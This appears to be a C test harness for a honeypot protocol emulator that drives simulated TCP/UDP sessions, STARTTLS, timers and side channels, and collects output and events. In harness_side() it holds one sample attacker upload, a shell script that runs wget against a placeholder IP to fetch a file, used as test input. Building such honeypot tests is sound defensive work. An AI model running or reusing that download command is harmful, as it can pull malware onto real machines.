/* harness.c: see harness.h. Output is collected in a side buffer as soon as
 * the emulator queues it (a fast client), so pumping can continue. */
#include <stdio.h>
#include <string.h>

#include "harness.h"
#include "lure.h"
#include "outbox.h"

static uint8_t sent[1 << 20];
static size_t sent_len;

void
harness_global(int64_t wall_ms)
{
	struct event_identity id = {
	        "test", "testhost", LURE_PERSONA, "0123456789abcdef"};

	if (wall_ms)
		lure_clock_fix(wall_ms);
	outbox_init(1 << 20);
	outbox_consumer();
	event_setup(&id);
}

static void
drain(struct harness *h)
{
	const uint8_t *p;
	size_t n;

	while ((n = emu_ctx_peek(&h->ctx, &p)) > 0) {
		size_t take = LURE_MIN(n, sizeof sent - sent_len);
		memcpy(sent + sent_len, p, take);
		sent_len += take;
		emu_ctx_sent(&h->ctx, n); /* beyond the cap: discarded */
	}
}

static void
settle(struct harness *h)
{
	for (int guard = 0; guard < 1000 && !h->closed; guard++) {
		size_t before = h->in_len;
		drain(h);
		if (h->ctx.starttls >= 2 && !emu_ctx_pending(&h->ctx) &&
		        !h->ctx.close) {
			/* emu_starttls(): the handshake "succeeds" at once; the
			 * input that came before it is dropped, as the core
			 * drops it, and what follows is the plaintext (after
			 * emu_starttls_now(), the input held stands for the
			 * ClientHello) */
			h->ctx.starttls = 0;
			h->in_len = 0;
			before = 0;
		}
		if (h->ctx.close) {
			harness_close(h, EMU_CLOSE_EMU);
			return;
		}
		if (emu_ctx_pump(&h->ctx, h->state, h->in, &h->in_len,
		            h->in_cap) < 0) {
			harness_close(h, EMU_CLOSE_INPUT);
			return;
		}
		if (!emu_ctx_pending(&h->ctx) && !h->ctx.close &&
		        h->in_len == before && h->ctx.starttls < 2)
			break;
	}
	drain(h);
}

int
harness_open(struct harness *h, const char *name, uint16_t port, int udp)
{
	static unsigned n;

	memset(h, 0, sizeof *h);
	if (!(h->emu = emu_find(name)) || h->emu->state_size > sizeof h->state)
		return -1;
	h->ctx.emu = h->emu;
	h->in_cap =
	        LURE_MIN(LURE_MAX(HARNESS_IN, h->emu->in_min), sizeof h->in);
	h->ctx.out = h->out;
	h->ctx.out_cap = sizeof h->out;
	h->ctx.transport = udp ? EMU_UDP : EMU_TCP;
	/* STARTTLS may be started (SMTP): its path after the handshake is
	 * run on the bytes sent after it */
	h->ctx.starttls = !udp;
	h->ctx.local_port = h->ctx.persona_port = port;
	h->ctx.src_port = 40000;
	strcpy(h->ctx.src_ip, "192.0.2.1");
	strcpy(h->ctx.dst_ip, "198.51.100.1");
	snprintf(h->ctx.session, sizeof h->ctx.session, "0123456789abcdef-%u",
	        ++n);
	h->ctx.hostname = NULL;
	h->outbox = 0;
	if (h->emu->on_open)
		h->emu->on_open(&h->ctx, h->state);
	settle(h);
	if (h->ctx.wake_at) /* a greeting after a delay (the daemon's fork) */
		harness_tick(h, h->ctx.wake_at - lure_now());
	return 0;
}

int
harness_send(struct harness *h, const void *p, size_t n)
{
	const uint8_t *b = p;

	while (n && !h->closed) {
		size_t take = LURE_MIN(n, h->in_cap - h->in_len);
		memcpy(h->in + h->in_len, b, take);
		h->in_len += take;
		b += take, n -= take;
		settle(h);
		if (take == 0 && h->ctx.wake_at)
			harness_tick(h, h->ctx.wake_at - lure_now());
		else if (take == 0)
			break;
	}
	return h->closed ? -1 : 0;
}

void
harness_tick(struct harness *h, int64_t ms)
{
	lure_clock_advance(ms > 0 ? ms : 0);
	if (h->closed)
		return;
	if ((h->ctx.wake_at && h->ctx.wake_at <= lure_now()) ||
	        (h->ctx.timer_at && h->ctx.timer_at <= lure_now())) {
		if (h->ctx.wake_at && h->ctx.wake_at <= lure_now())
			h->ctx.wake_at = 0;
		if (h->ctx.timer_at && h->ctx.timer_at <= lure_now())
			h->ctx.timer_at = 0;
		if (h->emu->on_timeout)
			h->emu->on_timeout(&h->ctx, h->state);
	}
	settle(h);
}

static int
side_op(struct emu_ctx *ctx, int op, const void *p, size_t n)
{
	struct harness *h = (struct harness *)ctx; /* ctx is its first */

	(void)p, (void)n;
	if (op == EMU_SIDE_LISTEN) {
		h->side = 1;
		return 40021;
	}
	if (op == EMU_SIDE_CLOSE)
		h->side = 0;
	else if (h->side != 2)
		return -1;
	else
		h->side = 3;
	return 0;
}

void
harness_sides(struct harness *h)
{
	h->ctx.side = side_op;
}

void
harness_side(struct harness *h)
{
	static const uint8_t up[] = "#!/bin/sh\nwget http://198.51.100.9/x\n";
	int s = h->side;

	if (h->closed || !s || !h->emu->on_side)
		return;
	h->side = s == 1 ? 2 : s == 3 ? 0 : 2;
	h->emu->on_side(&h->ctx, h->state,
	        s == 1   ? EMU_SIDE_OPEN
	        : s == 3 ? EMU_SIDE_END
	                 : EMU_SIDE_DATA,
	        up, s == 2 ? sizeof up - 1 : 0);
	settle(h);
}

void
harness_close(struct harness *h, enum emu_close_reason why)
{
	if (h->closed)
		return;
	h->closed = 1;
	if (h->emu->on_close)
		h->emu->on_close(&h->ctx, h->state, why);
	drain(h);
}

size_t
harness_take_output(struct harness *h, uint8_t *buf, size_t cap)
{
	size_t n = LURE_MIN(sent_len, cap);

	(void)h;
	memcpy(buf, sent, n);
	memmove(sent, sent + n, sent_len - n);
	sent_len -= n;
	return n;
}

size_t
harness_take_events(struct harness *h, char *buf, size_t cap)
{
	size_t got = 0;
	const char *p;
	size_t n;

	while (got < cap && (n = outbox_peek(h->outbox, &p)) > 0) {
		n = LURE_MIN(n, cap - got);
		memcpy(buf + got, p, n);
		got += n;
		outbox_ack(h->outbox, n);
	}
	return got;
}
